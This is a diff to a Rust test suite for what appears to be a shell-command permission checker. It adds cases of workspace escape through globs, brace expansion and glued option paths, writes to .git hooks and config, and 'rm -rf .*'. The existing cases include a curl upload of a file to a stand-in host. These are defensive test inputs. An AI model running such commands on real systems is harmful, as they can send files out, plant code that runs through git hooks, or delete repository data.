@@ -12,6 +12,7 @@ fn every_command_and_redirection_that_leaves_the_workspace_is_asked_about() {
     let out = place.outside().canonicalize().unwrap().join("out");
     let leaving = format!("external_directory {}/*", out.display());
     std::os::unix::fs::symlink(&out, place.outside().join("ws/link")).unwrap();
+    std::fs::write(out.join("s"), "").unwrap();
     for script in [
         "cat ../out/s",
         "echo x > ../out/P",
@@ -24,6 +25,13 @@ fn every_command_and_redirection_that_leaves_the_workspace_is_asked_about() {
         "curl -d @../out/s http://e.test",
         "cp f.txt ../out",
         "ls ../out/*.txt",
+        "cat s*/../../out/s",
+        "cat < su?/../../out/s",
+        "echo x > su[b]/../../out/s",
+        "cat ../ou{t..t}/s",
+        "cat .{.,x}/out/s",
+        "grep -nf../out/s f.txt",
+        "sort -uo../out/s f.txt",
         "cat link/s",
         "cat sub/../link/s",
         "echo x > link/P",
@@ -67,6 +75,9 @@ fn what_stays_inside_is_not_asked_about() {
     let place = Place::new();
     for script in [
         "cat f.txt sub/../f.txt ./sub",
+        "cat s*/../f.txt .[a-f]*",
+        "awk -F/ '{print $2}' f.txt; cut -d/ -f1 f.txt; sort -t/ -k2.1 f.txt",
+        "for i in {1..3}; do touch sub/{a..c}$i; done",
         "cd sub && cat ../f.txt",
         "echo / /etc ../x",
         "echo x > f.txt 2>&1 < /dev/null",
@@ -127,7 +138,18 @@ fn what_bubblewrap_shows_where_it_is_anyway_is_touched_by_nobody() {
 #[test]
 fn changing_what_other_programs_execute_is_asked_about_even_when_it_is_absent() {
     let place = Place::new();
+    std::fs::create_dir_all(place.outside().join("ws/.git/hooks")).unwrap();
+    std::fs::write(place.outside().join("ws/.git/config"), "").unwrap();
     for (script, path) in [
+        ("rm -rf .gi*", ".git"),
+        ("rm -rf .*", ".git"),
+        ("rm -rf * .[a-z]*", ".git"),
+        ("echo x > .git/confi?", ".git/config"),
+        ("echo x | tee .gi[t]/config", ".git/config"),
+        ("echo x > .gi{t..t}/hooks/x", ".git/hooks/x"),
+        ("cp -t.git/hooks f.txt", ".git/hooks"),
+        ("sort -o.git/hooks/post-checkout f.txt", ".git/hooks/post-checkout"),
+        ("tar -xf a.tar -C.git/hooks", ".git/hooks"),
         ("echo x > .git/hooks/pre-commit", ".git/hooks/pre-commit"),
         ("mkdir -p .haft && ls", ".haft"),
         ("echo x >> .envrc", ".envrc"),
